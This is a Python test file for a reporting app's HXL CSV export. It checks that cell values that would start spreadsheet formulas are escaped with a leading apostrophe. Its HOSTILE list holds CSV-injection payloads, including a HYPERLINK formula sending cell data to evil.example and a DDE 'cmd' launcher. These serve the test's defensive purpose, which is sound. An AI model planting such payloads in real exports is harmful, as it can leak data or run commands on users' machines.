"""HXL CSV exports: a text that a spreadsheet would run as a formula is written inert."""

from __future__ import annotations

import io
from typing import Any

import pytest

from ulinzi.accounts.models import Organisation
from ulinzi.reports import services
from ulinzi.reports.tests.checks import read_hxl
from ulinzi.reports.tests.factories import incident

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
]


def export(level: str) -> bytes:
    request = services.parse_request(fmt="hxl", level=level, filters={})
    out = io.BytesIO()
    services.export(actor=None, request=request, out=out, via="test")
    return out.getvalue()


@pytest.fixture
def cluster(demo_orgs: Any) -> Organisation:
    return Organisation.objects.get(code="cluster")


def test_partner_hxl_cells_never_start_a_formula(cluster: Organisation) -> None:
    for i, value in enumerate([*HOSTILE, "-3", "Kyiv"]):
        incident(cluster, admin1_name=value, perpetrator=value[:32], admin1_pcode=f"P{i}")
    _titles, tags, rows = read_hxl(export("partners"))
    names = sorted(r[tags.index("#adm1+name")] for r in rows)
    perpetrators = sorted(r[tags.index("#group+perp")] for r in rows)
    assert names == sorted(["'" + v for v in HOSTILE] + ["-3", "Kyiv"])
    assert perpetrators == sorted(["'" + v[:32] for v in HOSTILE] + ["-3", "Kyiv"])


def test_public_hxl_cells_never_start_a_formula(cluster: Organisation) -> None:
    for value in ("=1+1", "@SUM(1)"):
        for _ in range(6):  # one group of at least k
            incident(cluster, cause=value)
    _titles, tags, rows = read_hxl(export("public"))
    assert {r[tags.index("#cause")] for r in rows} == {"'=1+1", "'@SUM(1)"}
